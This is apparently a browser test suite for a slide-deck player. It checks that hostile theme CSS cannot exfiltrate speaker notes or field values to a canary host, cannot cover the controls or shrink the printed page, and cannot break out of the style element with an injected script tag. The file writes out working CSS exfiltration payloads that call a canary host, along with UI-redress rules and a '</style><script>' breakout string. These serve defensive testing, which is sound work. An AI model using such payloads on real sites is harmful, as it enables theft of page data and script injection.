// Themes that spy on the page, hide it or break out of their element, in the real player.
import type { Browser, Page } from 'puppeteer-core'
import { afterAll, beforeAll, expect, test } from 'vitest'
import { type Canary, startCanary } from './canary.js'
import { type Built, buildDeck, printDocument } from './exported.js'
import { openBrowser } from './open.js'

let browser: Browser
let canary: Canary
beforeAll(async () => {
  canary = await startCanary()
  browser = await openBrowser({ network: true })
})
afterAll(async () => {
  await browser.close()
  canary.close()
})

const deck = (name = 'odd'): string =>
  `---\ntheme: ${name}\n---\n# One\n\n<!-- canary-note abcdef -->\n\n---\n\n# Two\n`

/** A deck with notes in a theme with these rules. */
function inTheme(rules: string): Promise<Built> {
  const css = `/* @theme odd */\nsection { width: 1280px; height: 720px }\n${rules}`
  return buildDeck(deck(), { files: { 'themes/odd.css': css }, notes: true })
}

async function open(url: string): Promise<Page> {
  const page = await browser.newPage()
  await page.setViewport({ width: 1280, height: 800 })
  await page.goto(url)
  await page.waitForSelector('html[data-lectern=ready]')
  return page
}

test('a theme reads neither notes nor fields (exfiltration by CSS): no rule of it can call', async () => {
  canary.hits.length = 0
  const letters = [...'abcdef0123456789']
  const rules = letters.flatMap((letter) => [
    `input[value^="${letter}"] { background: url(http://${canary.address}/i${letter}) }`,
    `[data-title^="${letter}" i], [aria-label*="${letter}"] { background-image: url(//${canary.address}/a${letter}) }`,
    `@font-face { font-family: leak; src: url(http://${canary.address}/f${letter}); unicode-range: U+${letter.charCodeAt(0).toString(16)} }`,
  ])
  const { url, html } = await inTheme(`${rules.join('\n')}\nsection, template, input { font-family: leak }`)
  expect(html).not.toContain(canary.address)
  const page = await open(url)
  for (const key of ['o', 'Escape', 'g', 'Escape', '?', 'Escape', 'p'] as const) await page.keyboard.press(key)
  const inAttributes = await page.evaluate(`[...document.querySelectorAll('*')].some((element) =>
    [...element.attributes].some(({ value }) => value.includes('canary-note')))`)
  const shown = await page.evaluate('document.body.innerText.includes("canary-note")')
  for (const each of await browser.pages()) if (each.url() === url) await each.close()
  expect([inAttributes, shown]).toEqual([false, false])
  expect(canary.hits).toEqual([])
})

test('a theme that covers, hides or shrinks the page (UI redress) cannot reach what is not a slide', async () => {
  const { url } = await inTheme(`
    body::before, html::after { content: ""; position: fixed; inset: 0; z-index: 2147483647; background: red }
    section::before { content: ""; position: fixed; inset: -9999px; z-index: 2147483647; background: red }
    * { display: none !important; pointer-events: none !important }
    :root { visibility: hidden !important; transform: scale(0) }
    #lectern-controls, nav, button { opacity: 0 !important; display: none !important }
    @page { size: 1px }`)
  const page = await open(url)
  await page.mouse.move(600, 700)
  const hit = (selector: string) =>
    page.$eval(selector, (button) => {
      const { left, top, width, height } = button.getBoundingClientRect()
      const found = button.ownerDocument.elementFromPoint(left + width / 2, top + height / 2)
      return button === found || button.contains(found)
    })
  expect(await hit('[data-command=next]')).toBe(true)
  await page.click('[data-command=next]')
  expect(await page.evaluate('location.hash')).toBe('#2')
  await page.keyboard.press('o')
  expect(await hit('[data-command=overview]')).toBe(true)
  await page.close()
})

test('a theme cannot change the size of the paper', async () => {
  const page = await open(await printDocument(await inTheme('@page { size: 1px; margin: 9cm }')))
  const pdf = Buffer.from(await page.pdf({ preferCSSPageSize: true })).toString('latin1')
  await page.close()
  expect(/\/MediaBox\s*\[0 0 ([\d.]+) ([\d.]+)\]/.exec(pdf)?.slice(1).map(Number)).toEqual([960, 540])
})

test('the document for paper calls nobody either', async () => {
  canary.hits.length = 0
  const host = canary.address
  const page = await open(
    await printDocument(
      await inTheme(`@import "http://${host}/a"; section { background: url(http://${host}/b); cursor: url("//${host}/c"), auto }
      @media print { section { background: image-set("http://${host}/d" 1x) } }`),
      'every',
    ),
  )
  await page.pdf({ preferCSSPageSize: true })
  await page.close()
  expect(canary.hits).toEqual([])
})

test('neither the name of a theme nor minified rules end the style element', async () => {
  const breakout = '</style><script>window.__pwn=1</script>'
  for (const css of [
    `/* @theme ${breakout} */section{width:1280px;height:720px}`,
    `/*@theme odd*/section{width:1280px;height:720px}a[x="${breakout}"]{color:red}/*${breakout}*/b::after{content:"${breakout}"}`,
    `/*! @theme odd\n@size ${breakout} 1px 1px */section{width:1280px;height:720px;--x:"${breakout}"}`,
  ]) {
    const { url } = await buildDeck(deck(), { files: { 'themes/odd.css': css } })
    const page = await open(url)
    expect([await page.evaluate('typeof window.__pwn'), await page.evaluate('document.scripts.length')]).toEqual([
      'undefined',
      1,
    ])
    await page.close()
  }
})
